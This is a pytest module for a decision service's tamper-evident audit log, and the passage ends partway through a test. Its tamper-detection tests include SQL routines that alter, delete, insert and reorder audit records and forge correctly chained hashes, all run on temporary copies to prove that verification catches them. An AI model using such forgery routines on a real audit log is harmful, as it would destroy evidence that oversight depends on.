"""The decision log: what a record holds, that no answered decision is lost, that
tampering is detected, audit reads and the data-subject report, retention with legal
holds, and the SIEM export.

Each server here has its own SQLite file, so that a test can tamper with, kill or prune a
log without touching anyone else's: the app in-process (tests/support/asgi.py) for what is
read and written through the API, real `pdp serve` processes where a process is killed or
its store fails under it."""

from __future__ import annotations

import csv
import hashlib
import hmac
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import threading
import time
import tracemalloc
import uuid
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import httpx
import pytest
import sqlalchemy as sa

from pdp.audit.log import RECORD_FIELDS, AuditLog, AuditRecord, record_hash, records_table
from pdp.model.clock import to_micros
from pdp.store.sql import open_store
from tests.support.asgi import InProcess, start_app, stop_app
from tests.support.servers import KEYS, Server, start_server, stop_server
from tests.support.world import World

AUDITOR = "t-auditor"
NAMED_PEP = "t-named-pep"
AUDIT_KEYS: dict[str, Any] = {**KEYS, NAMED_PEP: {"name": "pep-portal", "roles": ["pep"]}}
TWO_HOURS_EAST = timezone(timedelta(hours=2))
FINGERPRINT_KEY = "audit-fingerprint-key-0123456789"


# -- helpers --------------------------------------------------------------------------


def key_name(token: str) -> str:
    """The name the service gives a key that has none (pdp.model.callers's fingerprint: an HMAC
    of the token with PDP_FINGERPRINT_KEY)."""
    return "key-" + hmac.new(FINGERPRINT_KEY.encode(), token.encode(),
                             hashlib.sha256).hexdigest()[:16]


AUDIT_ENV = {"PDP_API_KEYS": json.dumps(AUDIT_KEYS), "PDP_FINGERPRINT_KEY": FINGERPRINT_KEY}


def audit_server(tmp: Path) -> Server:
    return start_server(tmp, env=AUDIT_ENV)


def audit_app(tmp: Path) -> InProcess:
    return start_app(tmp, env=AUDIT_ENV)


def db_of(server_dir: Path) -> Path:
    return server_dir / "facts.sqlite3"


def pdp_cli(db: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """`pdp ...` as an operator runs it, on the SQLite file `db`."""
    environment = {k: v for k, v in os.environ.items() if not k.startswith("PDP_")}
    environment["PDP_DATABASE_URL"] = f"sqlite:///{db}"
    return subprocess.run([sys.executable, "-m", "pdp", *args], capture_output=True,
                          text=True, env=environment, cwd=db.parent, timeout=60)


def sql(db: Path, statement: str, params: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """One statement on the file directly, autocommitted."""
    conn = sqlite3.connect(db, timeout=10, isolation_level=None)
    try:
        return conn.execute(statement, params).fetchall()
    finally:
        conn.close()


def record_ids(db: Path) -> set[str]:
    """Ids of every durable record: in the record chain or still in a pending segment."""
    ids = {row[0] for row in sql(db, "SELECT record_id FROM audit_records")}
    at = RECORD_FIELDS.index("record_id")
    for (body,) in sql(db, "SELECT body FROM audit_segments"):
        ids.update(values[at] for values in json.loads(body))
    return ids


def copy_db(source: Path, target: Path) -> Path:
    """A consistent copy (WAL included) of a SQLite file, even while a server uses it."""
    target.parent.mkdir(parents=True, exist_ok=True)
    src = sqlite3.connect(source, timeout=10)
    dst = sqlite3.connect(target)
    try:
        src.backup(dst)
    finally:
        src.close()
        dst.close()
    return target


def pep_post(client: httpx.Client, path: str, body: dict[str, Any],
             request_id: str | None = None) -> dict[str, Any]:
    headers = {"X-Request-ID": request_id} if request_id else {}
    response = client.post(path, json=body, headers=headers)
    assert response.status_code == 200, response.text
    result: dict[str, Any] = response.json()
    return result


def read_log(auditor: httpx.Client, justification: str = "routine audit check",
             **params: Any) -> list[dict[str, Any]]:
    """Every record matching `params`, walking the pages."""
    found: list[dict[str, Any]] = []
    cursor = None
    while True:
        query = {"justification": justification, "limit": 1000, **params}
        if cursor:
            query["cursor"] = cursor
        response = auditor.get("/v1/audit/decisions", params=query)
        assert response.status_code == 200, response.text
        body = response.json()
        found.extend(body["records"])
        cursor = body["page"]["next_token"]
        if not cursor:
            return found


def reads_with(auditor: httpx.Client, justification: str, **params: Any) -> list[dict[str, Any]]:
    """The recorded reads of the log that gave `justification`."""
    reads = read_log(auditor, record_type="audit_read", **params)
    return [r for r in reads if (r.get("details") or {}).get("justification") == justification]


def moment(record: dict[str, Any]) -> datetime:
    return datetime.fromisoformat(record["at"])


# -- a server of this module's own ------------------------------------------------------


@pytest.fixture(scope="module")
def log_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[InProcess]:
    running = audit_app(tmp_path_factory.mktemp("audit"))
    yield running
    stop_app(running)


@pytest.fixture
def admin(log_server: InProcess) -> Iterator[httpx.Client]:
    with log_server.client("t-admin") as client:
        yield client


@pytest.fixture
def pep(log_server: InProcess) -> Iterator[httpx.Client]:
    with log_server.client("t-pep") as client:
        yield client


@pytest.fixture
def named_pep(log_server: InProcess) -> Iterator[httpx.Client]:
    with log_server.client(NAMED_PEP) as client:
        yield client


@pytest.fixture
def auditor(log_server: InProcess) -> Iterator[httpx.Client]:
    with log_server.client(AUDITOR) as client:
        yield client


@pytest.fixture
def world(admin: httpx.Client) -> World:
    return World(admin).build()


# -- 1. what a record holds -------------------------------------------------------------


def test_single_allow_and_deny_are_recorded_with_every_field(
        named_pep: httpx.Client, pep: httpx.Client, auditor: httpx.Client,
        world: World) -> None:
    elsewhere = f"{world.p}-c297"
    world.put("clients", elsewhere, {"home_municipality": "297", "area_client": True})
    before = datetime.now(UTC)
    allow = pep_post(named_pep, "/access/v1/evaluation", world.request(), "req-allow-1")
    deny_body = world.request(category="name_contact", action="read")
    deny_body["resource"]["id"] = elsewhere
    deny = pep_post(pep, "/access/v1/evaluation", deny_body, "req-deny-1")
    after = datetime.now(UTC)
    assert allow["decision"] is True and deny["decision"] is False
    assert deny["context"]["reason"] == "client_not_own_municipality"

    records = {r["record_id"]: r for r in read_log(auditor, user=world.user)}
    assert set(records) == {allow["context"]["decision_id"], deny["context"]["decision_id"]}

    allowed = records[allow["context"]["decision_id"]]
    assert before <= moment(allowed) <= after
    assert {k: v for k, v in allowed.items() if k not in ("at", "seq", "prev_hash", "hash")} == {
        "record_type": "decision",
        "record_id": allow["context"]["decision_id"],
        "user_id": world.user,
        "user_municipality": "749",
        "grant_id": world.grant,
        "client_id": world.client,
        "client_municipality": "749",
        "category": "service_needs_plans",
        "action": "read",
        "purpose": "coaching",
        "decision": True,
        "reason": "allowed",
        "policy_version": allow["context"]["policy_version"],
        "facts_version": allow["context"]["facts_version"],
        "request_id": "req-allow-1",
        "caller": "pep-portal",
    }

    denied = records[deny["context"]["decision_id"]]
    assert before <= moment(denied) <= after
    assert moment(allowed) <= moment(denied)
    assert {k: v for k, v in denied.items() if k not in ("at", "seq", "prev_hash", "hash")} == {
        "record_type": "decision",
        "record_id": deny["context"]["decision_id"],
        "user_id": world.user,
        "user_municipality": "749",
        "grant_id": None,
        "client_id": elsewhere,
        "client_municipality": "297",
        "category": "name_contact",
        "action": "read",
        "purpose": "coaching",
        "decision": False,
        "reason": "client_not_own_municipality",
        "policy_version": deny["context"]["policy_version"],
        "facts_version": deny["context"]["facts_version"],
        "request_id": "req-deny-1",
        "caller": key_name("t-pep"),
    }
    assert denied["seq"] > allowed["seq"]


def _item(world: World, category: str = "service_needs_plans", **kwargs: Any) -> dict[str, Any]:
    return world.request(category=category, **kwargs)


def _by_request(auditor: httpx.Client, world: World, request_id: str) -> list[dict[str, Any]]:
    return [r for r in read_log(auditor, user=world.user) if r["request_id"] == request_id]


def test_batch_records_every_evaluated_item(pep: httpx.Client, auditor: httpx.Client,
                                            world: World) -> None:
    invalid = _item(world)
    invalid["resource"]["properties"]["category"] = "no-such-category"
    items = [_item(world), _item(world, "benefits"), invalid,
             _item(world, "name_contact", action="write"), _item(world, "name_contact")]
    results = pep_post(pep, "/access/v1/evaluations", {"evaluations": items},
                       "req-batch-all")["evaluations"]
    assert [r["decision"] for r in results] == [True, False, False, False, True]
    assert results[2]["context"]["error"]["code"] == "invalid_request"

    records = _by_request(auditor, world, "req-batch-all")
    assert len(records) == 5  # every item, in order
    assert [r["seq"] for r in records] == sorted(r["seq"] for r in records)
    for index in (0, 1, 3, 4):
        assert records[index]["record_id"] == results[index]["context"]["decision_id"]
        assert records[index]["reason"] == results[index]["context"]["reason"]
        assert records[index]["decision"] is results[index]["decision"]
    assert [r["reason"] for r in records] == [
        "allowed", "category_not_necessary", "invalid_request", "action_not_permitted",
        "allowed"]
    assert [r["category"] for r in records] == [
        "service_needs_plans", "benefits", None, "name_contact", "name_contact"]
    assert [r["grant_id"] for r in records] == [world.grant, None, None, None, world.grant]
    bad = records[2]
    assert bad["decision"] is False
    assert bad["user_id"] == world.user and bad["client_id"] == world.client
    assert bad["caller"] == key_name("t-pep") and bad["request_id"] == "req-batch-all"
    assert bad["policy_version"] == results[0]["context"]["policy_version"]
    assert len({r["record_id"] for r in records}) == 5


def test_batch_stopped_early_records_only_the_decided_items(
        pep: httpx.Client, auditor: httpx.Client, world: World) -> None:
    deny_first = pep_post(pep, "/access/v1/evaluations", {
        "options": {"evaluations_semantic": "deny_on_first_deny"},
        "evaluations": [_item(world), _item(world, "benefits"), _item(world),
                        _item(world, "name_contact")]}, "req-deny-first")["evaluations"]
    assert [r["decision"] for r in deny_first] == [True, False]
    records = _by_request(auditor, world, "req-deny-first")
    assert [r["record_id"] for r in records] == [r["context"]["decision_id"]
                                                 for r in deny_first]

    permit_first = pep_post(pep, "/access/v1/evaluations", {
        "options": {"evaluations_semantic": "permit_on_first_permit"},
        "evaluations": [_item(world, "benefits"), _item(world), _item(world, "benefits")]},
        "req-permit-first")["evaluations"]
    assert [r["decision"] for r in permit_first] == [False, True]
    records = _by_request(auditor, world, "req-permit-first")
    assert [r["record_id"] for r in records] == [r["context"]["decision_id"]
                                                 for r in permit_first]
    assert [r["reason"] for r in records] == ["category_not_necessary", "allowed"]


def test_invalid_batch_item_answers_with_its_decision_id(
        pep: httpx.Client, auditor: httpx.Client, world: World) -> None:
    """README: every decision, a malformed batch item too, is recorded with its decision
    id — the response's context.decision_id. So the item's answer must carry that id."""
    invalid = _item(world)
    invalid["action"]["name"] = "delete"
    results = pep_post(pep, "/access/v1/evaluations", {"evaluations": [invalid]},
                       "req-invalid-id")["evaluations"]
    assert results[0]["decision"] is False
    records = _by_request(auditor, world, "req-invalid-id")
    assert len(records) == 1 and records[0]["reason"] == "invalid_request"
    assert results[0]["context"].get("decision_id") == records[0]["record_id"]


# -- 2. never lost ----------------------------------------------------------------------


def test_an_unwritable_log_answers_503_never_an_unrecorded_decision(tmp_path: Path) -> None:
    server = audit_server(tmp_path)
    db = db_of(tmp_path)
    try:
        with server.client("t-admin") as admin, server.client("t-pep") as pep, \
                server.client(AUDITOR) as auditor:
            world = World(admin).build()
            assert pep_post(pep, "/access/v1/evaluation", world.request())["decision"]
            sql(db, "ALTER TABLE audit_segments RENAME TO audit_segments_away")
            try:
                for n in range(5):
                    single = pep.post("/access/v1/evaluation", json=world.request(),
                                      headers={"X-Request-ID": f"lost-{n}"})
                    assert single.status_code == 503, single.text
                    assert single.json()["error"]["code"] == "audit_unavailable"
                    batch = pep.post("/access/v1/evaluations", headers={
                        "X-Request-ID": f"lost-batch-{n}"}, json={
                        "evaluations": [world.request(), world.request(category="benefits")]})
                    assert batch.status_code == 503, batch.text
                    assert batch.json()["error"]["code"] == "audit_unavailable"
            finally:
                sql(db, "ALTER TABLE audit_segments_away RENAME TO audit_segments")
            again = pep_post(pep, "/access/v1/evaluation", world.request(), "back-1")
            assert again["decision"] is True
            assert again["context"]["decision_id"] in record_ids(db)
            verified = auditor.get("/v1/audit/verify")  # moves every pending segment first
            assert verified.status_code == 200, verified.text
            assert verified.json()["ok"] is True
            assert sql(db, "SELECT count(*) FROM audit_records WHERE request_id LIKE 'lost-%'"
                       ) == [(0,)]
            assert not [body for (body,) in sql(db, "SELECT body FROM audit_segments")
                        if b'"lost-' in body]
    finally:
        stop_server(server)


def readiness(server: Server) -> tuple[int, dict[str, Any]]:
    response = httpx.get(server.url + "/readyz", timeout=30)
    body: dict[str, Any] = response.json()
    return response.status_code, body


def wait_ready(server: Server, status: int, seconds: float = 15) -> dict[str, Any]:
    deadline = time.monotonic() + seconds
    while True:
        code, body = readiness(server)
        if code == status:
            return body
        assert time.monotonic() < deadline, f"/readyz still {code}: {body}"
        time.sleep(0.2)


def test_readyz_is_503_while_the_log_cannot_be_written_sqlite(tmp_path: Path) -> None:
    """/readyz stayed 200 while every decision was 503 audit_unavailable: it only read."""
    server = audit_server(tmp_path)
    db = db_of(tmp_path)
    try:
        with server.client("t-admin") as admin, server.client("t-pep") as pep:
            world = World(admin).build()
            assert readiness(server)[0] == 200
            sql(db, "ALTER TABLE audit_segments RENAME TO audit_segments_away")
            try:
                body = wait_ready(server, 503)
                assert any(p.startswith("decision log") for p in body["problems"]), body
                refused = pep.post("/access/v1/evaluation", json=world.request())
                assert refused.status_code == 503
                assert refused.json()["error"]["code"] == "audit_unavailable"
            finally:
                sql(db, "ALTER TABLE audit_segments_away RENAME TO audit_segments")
            assert wait_ready(server, 200)["problems"] == []
            assert pep_post(pep, "/access/v1/evaluation", world.request())["decision"]
            # the probe leaves nothing behind: the chain verifies, no segment below 1
            assert sql(db, "SELECT count(*) FROM audit_segments WHERE id < 1") == [(0,)]
            with server.client(AUDITOR) as auditor:
                assert auditor.get("/v1/audit/verify").json()["ok"] is True
    finally:
        stop_server(server)


def test_readyz_is_503_while_the_log_cannot_be_written_postgresql(tmp_path: Path) -> None:
    """The database turned read-only: it still answers reads (facts, the old probe), and
    every decision failed; /readyz must say so, and recover with the database."""
    from psycopg import sql as pg_sql

    from tests.support.pg import PG_ADMIN_DB, PG_HOST, PG_PORT, fresh_database, pg_connect

    def set_read_only(name: str, on: bool) -> None:
        with pg_connect(PG_ADMIN_DB) as pg:
            pg.execute(pg_sql.SQL("ALTER DATABASE {} SET default_transaction_read_only = {}")
                       .format(pg_sql.Identifier(name), pg_sql.SQL("on" if on else "off")))
            pg.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity "
                       "WHERE datname = %s AND pid <> pg_backend_pid()", (name,))

    with fresh_database("pdp_ready") as name:
        url = f"postgresql://postgres@{PG_HOST}:{PG_PORT}/{name}"
        server = start_server(tmp_path, env={"PDP_API_KEYS": json.dumps(AUDIT_KEYS),
                                             "PDP_DATABASE_URL": url})
        try:
            with server.client("t-admin") as admin, server.client("t-pep") as pep:
                world = World(admin).build()
                assert pep_post(pep, "/access/v1/evaluation", world.request())["decision"]
                set_read_only(name, True)
                try:
                    body = wait_ready(server, 503)
                    assert [p for p in body["problems"] if p.startswith("decision log")], body
                    assert not [p for p in body["problems"] if p.startswith("store")], body
                    refused = pep.post("/access/v1/evaluation", json=world.request())
                    assert refused.status_code == 503, refused.text
                    assert refused.json()["error"]["code"] == "audit_unavailable"
                finally:
                    set_read_only(name, False)
                wait_ready(server, 200)
                assert pep_post(pep, "/access/v1/evaluation", world.request())["decision"]
        finally:
            stop_server(server)


def test_kill_9_loses_no_answered_decision(tmp_path: Path) -> None:
    server = audit_server(tmp_path)
    db = db_of(tmp_path)
    try:
        with server.client("t-admin") as admin:
            world = World(admin).build()
        received: list[str] = []
        lock = threading.Lock()
        stop = threading.Event()

        def hammer(worker: int) -> None:
            mine: list[str] = []
            n = 0
            with httpx.Client(base_url=server.url, timeout=5,
                              headers={"Authorization": "Bearer t-pep"}) as pep:
                while not stop.is_set():
                    n += 1
                    try:
                        if n % 2:
                            response = pep.post("/access/v1/evaluation",
                                                json=world.request())
                            if response.status_code == 200:
                                mine.append(response.json()["context"]["decision_id"])
                        else:
                            response = pep.post("/access/v1/evaluations", json={
                                "evaluations": [world.request(),
                                                world.request(category="benefits"),
                                                world.request(category="name_contact")]})
                            if response.status_code == 200:
                                mine.extend(r["context"]["decision_id"]
                                            for r in response.json()["evaluations"])
                    except httpx.HTTPError:
                        time.sleep(0.01)
            with lock:
                received.extend(mine)

        workers = [threading.Thread(target=hammer, args=(i,)) for i in range(8)]
        for thread in workers:
            thread.start()
        time.sleep(1.3)
        os.kill(server.process.pid, signal.SIGKILL)
        time.sleep(0.7)
        stop.set()
        for thread in workers:
            thread.join(30)
        assert server.process.wait(10) == -signal.SIGKILL
    finally:
        stop_server(server)

    print("answered before and around the kill:", len(received))
    assert len(received) > 50, "the load did not get going"
    assert len(set(received)) == len(received)
    stored = record_ids(db)
    missing = set(received) - stored
    assert not missing, f"{len(missing)} of {len(received)} answered decisions not in the log"
    verified = pdp_cli(db, "audit", "verify")
    assert verified.returncode == 0, verified.stdout + verified.stderr
    assert verified.stdout.startswith("ok:")


# -- 3. tamper evidence ------------------------------------------------------------------

CHAIN_LENGTH = 10


@pytest.fixture(scope="module")
def chain_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A log of CHAIN_LENGTH decisions (seq 1..10) written by a server, then stopped."""
    tmp = tmp_path_factory.mktemp("chain")
    server = audit_app(tmp)
    try:
        with server.client("t-admin") as admin, server.client("t-pep") as pep:
            world = World(admin).build()
            categories = ["service_needs_plans", "benefits", "name_contact"]
            for n in range(CHAIN_LENGTH):
                pep_post(pep, "/access/v1/evaluation",
                         world.request(category=categories[n % 3]), f"chain-{n}")
    finally:
        stop_app(server)
    db = copy_db(db_of(tmp), tmp / "chain" / "facts.sqlite3")
    assert sql(db, "SELECT seq, record_type FROM audit_records ORDER BY seq") == [
        (n, "decision") for n in range(1, CHAIN_LENGTH + 1)]
    assert sql(db, "SELECT seq FROM audit_head WHERE id = 1") == [(CHAIN_LENGTH,)]
    assert sql(db, "SELECT count(*) FROM audit_segments") == [(0,)]  # moved at stop
    return db


def _row(engine: sa.Engine, seq: int) -> dict[str, Any]:
    with engine.connect() as conn:
        row = conn.execute(sa.select(records_table).where(records_table.c.seq == seq)).one()
    return dict(row._mapping)


def _insert(engine: sa.Engine, row: dict[str, Any]) -> None:
    with engine.begin() as conn:
        conn.execute(records_table.insert(), [row])


def change_a_record(engine: sa.Engine) -> int:
    with engine.begin() as conn:
        conn.exec_driver_sql("UPDATE audit_records SET reason = 'tampered' WHERE seq = 5")
    return 5


def delete_a_record(engine: sa.Engine) -> int:
    with engine.begin() as conn:
        conn.exec_driver_sql("DELETE FROM audit_records WHERE seq = 5")
    return 6  # the first record left that no longer follows the one before it


def insert_after_the_head(engine: sa.Engine) -> int:
    """A forger who knows the hash: a well-chained record after the head (left as is)."""
    last = _row(engine, CHAIN_LENGTH)
    fields = {k: last[k] for k in RECORD_FIELDS}
    fields.update(record_id="f" * 32, decision=True, reason="allowed")
    seq = CHAIN_LENGTH + 1
    _insert(engine, {"seq": seq, **fields, "prev_hash": last["hash"],
                     "hash": record_hash(last["hash"], seq, fields)})
    return seq


def insert_in_the_middle(engine: sa.Engine) -> int:
    """Renumber 5.. up by one and slip a forged record in at 5."""
    with engine.begin() as conn:
        for seq in range(CHAIN_LENGTH, 4, -1):
            conn.exec_driver_sql(f"UPDATE audit_records SET seq = {seq + 1} WHERE seq = {seq}")
    forged = _row(engine, 4)
    forged.update(seq=5, record_id="e" * 32, reason="allowed", decision=True)
    _insert(engine, forged)
    return 5


def swap_contents(engine: sa.Engine) -> int:
    first, second = _row(engine, 4), _row(engine, 7)
    with engine.begin() as conn:
        for target, source in ((4, second), (7, first)):
            conn.execute(records_table.update().where(records_table.c.seq == target).values(
                {k: v for k, v in source.items() if k != "seq"}))
    return 4


def swap_seqs(engine: sa.Engine) -> int:
    with engine.begin() as conn:
        conn.exec_driver_sql("UPDATE audit_records SET seq = -1 WHERE seq = 4")
        conn.exec_driver_sql("UPDATE audit_records SET seq = 4 WHERE seq = 7")
        conn.exec_driver_sql("UPDATE audit_records SET seq = 7 WHERE seq = -1")
    return 4


TAMPERINGS: dict[str, Callable[[sa.Engine], int]] = {
    "changed": change_a_record,
    "deleted": delete_a_record,
    "inserted_after_head": insert_after_the_head,
    "inserted_in_the_middle": insert_in_the_middle,
    "reordered_contents": swap_contents,
    "reordered_seqs": swap_seqs,
}


def _tampered(chain_db: Path, where: Path, tamper: Callable[[sa.Engine], int] | None
              ) -> int | None:
    db = copy_db(chain_db, where / "facts.sqlite3")
    if tamper is None:
        return None
    engine = sa.create_engine(f"sqlite:///{db}")
    try:
        return tamper(engine)
    finally:
        engine.dispose()


@pytest.mark.parametrize("case", ["untampered", *TAMPERINGS])
def test_verify_names_the_first_bad_record(case: str, chain_db: Path, tmp_path: Path) -> None:
    tamper = TAMPERINGS.get(case)
    expected = _tampered(chain_db, tmp_path / "cli", tamper)
    assert _tampered(chain_db, tmp_path / "api", tamper) == expected

    done = pdp_cli(db_of(tmp_path / "cli"), "audit", "verify")
    server = start_app(tmp_path / "api", env={"PDP_API_KEYS": json.dumps(AUDIT_KEYS)})
    try:
        with server.client(AUDITOR) as auditor:
            response = auditor.get("/v1/audit/verify")
    finally:
        stop_app(server)
    both = f"pdp audit verify: {done.stdout}{done.stderr[-500:]}\nGET: {response.text}"

    if expected is None:
        assert done.returncode == 0, both
        assert done.stdout.strip() == f"ok: {CHAIN_LENGTH} records, head {CHAIN_LENGTH}"
    else:
        assert done.returncode == 1, both
        assert f"BAD: record {expected} (" in done.stdout, both
        if case == "deleted":
            assert "5-5" in done.stdout  # the missing one is named too
    assert response.status_code == 200, both
    result = response.json()
    if expected is None:
        assert result["ok"] is True and result["first_bad_seq"] is None
        assert result["checked"] == CHAIN_LENGTH
    else:
        assert result["ok"] is False, result
        assert result["first_bad_seq"] == expected, result
        assert result["problem"]


@pytest.fixture(scope="module")
def pending_db(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[list[str]]]:
    """A log whose records all still wait in segments: a server that indexes only after an
    hour of quiet, killed with -9 (so it could not move them at stop). Returns the file
    and the decision ids of each segment."""
    tmp = tmp_path_factory.mktemp("pending")
    server = start_server(tmp, env={"PDP_API_KEYS": json.dumps(AUDIT_KEYS),
                                    "PDP_AUDIT_INDEX_DELAY_SECONDS": "3600"})
    try:
        with server.client("t-admin") as admin, server.client("t-pep") as pep:
            world = World(admin).build()
            for n in range(4):
                pep_post(pep, "/access/v1/evaluations", {"evaluations": [
                    world.request(), world.request(category="benefits")]}, f"pending-{n}")
    finally:
        server.process.kill()
        server.process.wait(10)
    db = copy_db(db_of(tmp), tmp / "pending" / "facts.sqlite3")
    assert sql(db, "SELECT count(*) FROM audit_records") == [(0,)]
    at = RECORD_FIELDS.index("record_id")
    segments = [[values[at] for values in json.loads(body)]
                for (body,) in sql(db, "SELECT body FROM audit_segments ORDER BY id")]
    assert sum(map(len, segments)) == 8
    assert len(segments) == 4  # one request at a time: a group commit each
    return db, segments


def test_pending_segments_verify_and_move_into_the_record_chain(
        pending_db: tuple[Path, list[list[str]]], tmp_path: Path) -> None:
    source, segments = pending_db
    db = copy_db(source, tmp_path / "facts.sqlite3")
    done = pdp_cli(db, "audit", "verify")
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.startswith("ok: 8 records, head 8")
    assert sql(db, "SELECT count(*) FROM audit_segments") == [(0,)]
    in_order = sql(db, "SELECT record_id, record_type FROM audit_records ORDER BY seq")
    assert [i for i, kind in in_order if kind == "decision"] == [
        i for segment in segments for i in segment]
    assert in_order[-1][1] == "audit_read"  # the verify, recorded after the moved ones


def _tamper_segment(db: Path, statements: str) -> None:
    second = str(sql(db, "SELECT min(id) + 1 FROM audit_segments")[0][0])
    for statement in statements.split("; "):
        sql(db, statement.replace("{second}", second))


@pytest.mark.parametrize(("case", "statement", "bad"), [
    ("changed", "UPDATE audit_segments SET body = replace(body, 'allowed', 'tampers') "
                "WHERE id = {second}", 1),
    ("deleted", "DELETE FROM audit_segments WHERE id = {second}", 2),
    ("reordered", "UPDATE audit_segments SET id = -1 WHERE id = {second}; "
                  "UPDATE audit_segments SET id = {second} WHERE id = {second} + 1; "
                  "UPDATE audit_segments SET id = {second} + 1 WHERE id = -1", 2),
])
def test_a_tampered_pending_segment_is_named_and_not_moved(
        case: str, statement: str, bad: int, pending_db: tuple[Path, list[list[str]]],
        tmp_path: Path) -> None:
    source, segments = pending_db
    db = copy_db(source, tmp_path / "facts.sqlite3")
    _tamper_segment(db, statement)
    done = pdp_cli(db, "audit", "verify")
    assert done.returncode == 1, done.stdout + done.stderr
    assert f"BAD: record pending ({segments[bad][0]}): pending segment" in done.stdout, \
        done.stdout
    # The intact segment before it moved into the record chain; the rest stayed put.
    assert {row[0] for row in sql(db, "SELECT record_id FROM audit_records")} == set(
        segments[0])


# -- 4. audit queries --------------------------------------------------------------------


def test_audit_reads_need_the_auditor_role(log_server: InProcess, world: World) -> None:
    query = {"justification": "role check"}
    for token, status in (("t-pep", 403), ("t-facts", 403), ("t-grants", 403),
                          ("t-policy", 403), (None, 401), ("t-auditor", 200),
                          ("t-admin", 200)):
        with log_server.client(token) as client:
            for path, params in (("/v1/audit/decisions", query),
                                 ("/v1/audit/verify", {}),
                                 (f"/v1/audit/clients/{world.client}/report", query),
                                 ("/v1/audit/holds", {})):
                response = client.get(path, params=params)
                assert response.status_code == status, (token, path, response.text)
                if status == 403:
                    assert response.json()["error"]["code"] == "forbidden"
            hold = client.post("/v1/audit/holds", json={"client": world.client,
                                                        "reason": "role check"})
            assert hold.status_code == (201 if status == 200 else status), hold.text
            if status == 200:
                released = client.delete(f"/v1/audit/holds/{hold.json()['id']}",
                                         params={"reason": "role check done"})
                assert released.status_code == 200, released.text


def test_a_justification_is_required(auditor: httpx.Client, world: World) -> None:
    for params in ({}, {"justification": ""}, {"justification": "x"}):
        for path in ("/v1/audit/decisions", f"/v1/audit/clients/{world.client}/report"):
            response = auditor.get(path, params=params)
            assert response.status_code == 400, (path, params, response.text)
            assert response.json()["error"]["code"] == "invalid_request"
    naive = auditor.get("/v1/audit/decisions", params={"justification": "time check",
                                                       "until": "2026-01-01T00:00:00"})
    assert naive.status_code == 400 and naive.json()["error"]["code"] == "invalid_request"


def test_each_filter_narrows(admin: httpx.Client, named_pep: httpx.Client,
                             auditor: httpx.Client) -> None:
    one = World(admin, "749").build()
    two = World(admin, "844").build()
    made: list[tuple[World, dict[str, Any]]] = []
    for world, body in ((one, one.request()), (one, one.request(category="benefits")),
                        (two, two.request()), (two, two.request(purpose="guidance")),
                        (one, one.request(category="name_contact"))):
        made.append((world, pep_post(named_pep, "/access/v1/evaluation", body)))
    ids = {result["context"]["decision_id"] for _, result in made}
    ours = {r["record_id"]: r for r in read_log(auditor, record_type="all")
            if r["record_id"] in ids}
    assert set(ours) == ids

    def found(**params: Any) -> list[dict[str, Any]]:
        return [r for r in read_log(auditor, **params) if r["record_id"] in ids]

    def expect(predicate: Callable[[dict[str, Any]], bool], **params: Any) -> None:
        everything = read_log(auditor, **params)
        assert all(r["record_type"] == "decision" for r in everything), params
        got = [r["record_id"] for r in everything if r["record_id"] in ids]
        want = [rid for rid, r in sorted(ours.items(), key=lambda i: i[1]["seq"])
                if predicate(r)]
        assert got == want, params
        assert 0 < len(want) < len(ids), params  # the filter narrows

    expect(lambda r: r["user_id"] == one.user, user=one.user)
    expect(lambda r: r["client_id"] == two.client, client=two.client)
    expect(lambda r: "844" in (r["user_municipality"], r["client_municipality"]),
           municipality="844")
    expect(lambda r: r["decision"] is False, decision="false")
    expect(lambda r: r["decision"] is True, decision="true")
    expect(lambda r: r["reason"] == "purpose_invalid", reason="purpose_invalid")
    for record in read_log(auditor, municipality="844"):
        assert "844" in (record["user_municipality"], record["client_municipality"])
    for record in read_log(auditor, decision="false"):
        assert record["decision"] is False
    assert all(r["user_id"] == one.user for r in read_log(auditor, user=one.user))

    ordered = sorted(ours.values(), key=lambda r: r["seq"])
    assert len({r["at"] for r in ordered}) == len(ordered)
    start = moment(ordered[1]).astimezone(TWO_HOURS_EAST).isoformat()
    end = moment(ordered[3]).astimezone(TWO_HOURS_EAST).isoformat()
    window = found(**{"from": start, "until": end})
    assert [r["record_id"] for r in window] == [r["record_id"] for r in ordered[1:3]]
    since = found(**{"from": start})
    assert [r["record_id"] for r in since] == [r["record_id"] for r in ordered[1:]]
    before = found(until=end)
    assert [r["record_id"] for r in before] == [r["record_id"] for r in ordered[:3]]
    combined = found(user=one.user, decision="true")
    assert [r["record_id"] for r in combined] == [
        r["record_id"] for r in ordered if r["user_id"] == one.user and r["decision"]]


def test_cursor_paging_walks_every_record_once(named_pep: httpx.Client,
                                               auditor: httpx.Client, world: World) -> None:
    made = [pep_post(named_pep, "/access/v1/evaluation",
                     world.request(category=category))["context"]["decision_id"]
            for category in ("service_needs_plans", "benefits", "name_contact",
                             "identity_code", "service_needs_plans", "name_contact",
                             "benefits")]
    pages: list[list[dict[str, Any]]] = []
    cursor = None
    while True:
        params: dict[str, Any] = {"justification": "paging check", "client": world.client,
                                  "limit": 2}
        if cursor:
            params["cursor"] = cursor
        response = auditor.get("/v1/audit/decisions", params=params)
        assert response.status_code == 200, response.text
        body = response.json()
        pages.append(body["records"])
        cursor = body["page"]["next_token"]
        if not cursor:
            break
        assert len(pages) < 20
    assert all(len(page) <= 2 for page in pages)
    walked = [r["record_id"] for page in pages for r in page]
    assert walked == made
    seqs = [r["seq"] for page in pages for r in page]
    assert seqs == sorted(set(seqs))
    bad = auditor.get("/v1/audit/decisions", params={"justification": "paging check",
                                                     "cursor": "not-a-cursor"})
    assert bad.status_code == 400 and bad.json()["error"]["code"] == "invalid_request"


def test_every_read_is_itself_recorded(named_pep: httpx.Client, auditor: httpx.Client,
                                       world: World) -> None:
    pep_post(named_pep, "/access/v1/evaluation", world.request())
    justification = f"complaint {uuid.uuid4()} from the client"
    response = auditor.get("/v1/audit/decisions", headers={"X-Request-ID": "read-1"},
                           params={"justification": justification, "client": world.client,
                                   "decision": "true"})
    assert response.status_code == 200, response.text
    assert len(response.json()["records"]) == 1

    reads = reads_with(auditor, justification, client=world.client)
    assert len(reads) == 1
    read = reads[0]
